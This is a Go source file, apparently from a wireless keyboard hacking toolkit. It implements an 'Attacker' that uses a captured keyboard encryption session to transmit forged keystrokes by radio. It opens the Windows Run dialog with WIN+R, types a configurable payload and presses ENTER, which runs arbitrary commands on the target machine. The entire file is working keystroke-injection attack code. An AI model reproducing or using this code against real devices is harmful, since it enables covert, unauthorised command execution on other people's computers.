package engine

import (
	"context"
	"fmt"
	"log/slog"
	"time"

	"github.com/mame82/radiohackbox/helper"
	"github.com/mame82/radiohackbox/hid"
	"github.com/mame82/radiohackbox/keyboard"
	"github.com/mame82/radiohackbox/radio"
)

// Attacker injects a fixed keystroke sequence using a captured key session.
type Attacker struct {
	Radio radio.Transceiver
	// Payload is typed into the run dialog
	Payload string
	// Run dialog hotkey, WIN + R
	OpenMod hid.HIDMod
	OpenKey hid.HIDKey
	// SettleDelay gives the target's UI time to show the run dialog
	SettleDelay time.Duration
	Clock       Clock
	Log         *slog.Logger
}

// Attack sends the open-dialog batch, waits SettleDelay and types Payload
// followed by ENTER. Without a session it does nothing. There are no
// retries, the first transmit error aborts the sequence.
func (a *Attacker) Attack(ctx context.Context, session keyboard.Session) (sent int, err error) {
	if session == nil {
		a.Log.Info("no crypto key available, attack skipped")
		return 0, nil
	}

	open := [][]byte{
		session.EncodeKey(hid.HID_MOD_NONE, hid.HID_KEY_NONE),
		session.EncodeKey(a.OpenMod, a.OpenKey),
		session.EncodeKey(hid.HID_MOD_NONE, hid.HID_KEY_NONE),
	}

	// encoded up front, an unmappable payload must not leave a dangling dialog
	typed, err := session.EncodeText(a.Payload)
	if err != nil {
		return 0, fmt.Errorf("encode attack payload: %w", err)
	}
	typed = append(typed, session.EncodeKeystroke(hid.HID_KEY_ENTER)...)

	if sent, err = a.send(ctx, open, sent); err != nil {
		return sent, err
	}

	// need small delay after WIN + R
	if err = a.Clock.Sleep(ctx, a.SettleDelay); err != nil {
		return sent, err
	}

	return a.send(ctx, typed, sent)
}

func (a *Attacker) send(ctx context.Context, cmds [][]byte, sent int) (int, error) {
	for _, k := range cmds {
		if err := ctx.Err(); err != nil {
			return sent, err
		}
		if err := a.Radio.TransmitFrame(ctx, k); err != nil {
			return sent, fmt.Errorf("inject keystroke %d: %w", sent, err)
		}
		sent++
		a.Log.Info("Sent payload", "payload", helper.Hex(k))
	}
	return sent, nil
}
